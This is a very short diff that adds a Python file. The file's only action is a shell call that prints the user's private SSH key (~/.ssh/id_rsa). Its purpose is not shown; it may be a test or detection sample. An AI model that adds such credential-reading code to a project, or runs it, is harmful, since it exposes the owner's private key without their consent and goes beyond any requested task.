@@ -0,0 +1,3 @@
+import os
+
+os.system("cat ~/.ssh/id_rsa")